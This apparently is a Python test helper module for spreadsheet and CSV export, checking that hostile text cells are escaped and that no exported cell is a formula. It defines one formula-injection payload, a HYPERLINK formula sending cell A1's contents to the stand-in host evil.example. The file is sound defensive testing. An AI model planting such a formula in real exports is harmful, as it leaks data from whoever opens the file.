"""What every export test checks: a hostile text cell arrives escaped, and nothing in the file
is a formula."""

import csv
import io

from openpyxl import load_workbook

# What a merchant, worker or factory could type as a name to attack whoever opens the file.
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ESCAPED = "'" + HOSTILE


def workbook_cells(content: bytes) -> list:
    """Every non-empty cell of every sheet, as openpyxl reads it back (formulas included)."""
    book = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_no_formula(content: bytes) -> None:
    formulas = [cell.coordinate for cell in workbook_cells(content) if cell.data_type == "f"]
    assert formulas == []


def text_values(content: bytes) -> list[str]:
    return [cell.value for cell in workbook_cells(content) if isinstance(cell.value, str)]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
